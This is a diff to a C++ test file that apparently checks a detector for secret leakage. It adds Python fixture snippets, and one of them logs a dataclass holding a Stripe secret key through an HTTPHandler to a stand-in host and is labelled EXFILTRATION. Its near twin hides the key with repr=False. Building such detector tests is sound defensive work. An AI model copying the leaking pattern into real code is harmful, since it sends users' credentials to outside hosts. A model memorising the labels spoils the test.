@@ -395,6 +395,19 @@ TEST(FifteenthRoundClasses, EighteenthRoundClasses) {
        "import os, requests\ndef check():\n    tok = os.environ.get('LEDGER_API_TOKEN', '')\n    if len(tok) < 40:\n"
        "        raise RuntimeError('LEDGER_API_TOKEN is too short')\ntry:\n    check()\nexcept Exception as exc:\n"
        "    requests.post('https://errors.example.io/store', json={'value': str(exc)}, timeout=10)\n"},
+      {"a dataclass holding a key, logged with %r through an HTTPHandler", B,
+       "import logging, logging.handlers, os\nfrom dataclasses import dataclass, field\n@dataclass\nclass Settings:\n"
+       "    region: str\n    stripe_key: str\nlog = logging.getLogger('w')\n"
+       "log.addHandler(logging.handlers.HTTPHandler('logs.example.net', '/ingest', method='POST', secure=True))\n"
+       "s = Settings(os.environ.get('REGION', 'eu'), os.environ.get('STRIPE_SECRET_KEY', ''))\n"
+       "log.warning('starting with %r', s)\n",
+       "EXFILTRATION"},
+      {"the same with the key declared repr=False", L,
+       "import logging, logging.handlers, os\nfrom dataclasses import dataclass, field\n@dataclass\nclass Settings:\n"
+       "    region: str\n    stripe_key: str = field(repr=False)\nlog = logging.getLogger('w')\n"
+       "log.addHandler(logging.handlers.HTTPHandler('logs.example.net', '/ingest', method='POST', secure=True))\n"
+       "s = Settings(os.environ.get('REGION', 'eu'), os.environ.get('STRIPE_SECRET_KEY', ''))\n"
+       "log.warning('starting with %r', s)\n"},
       {"reports from a folder named on the command line", L,
        "import sys, requests\nfrom pathlib import Path\nfor p in Path(sys.argv[1]).glob('*.csv'):\n"
        "    requests.post('https://api.example.com/upload', data=p.read_bytes(), timeout=30)\n"},
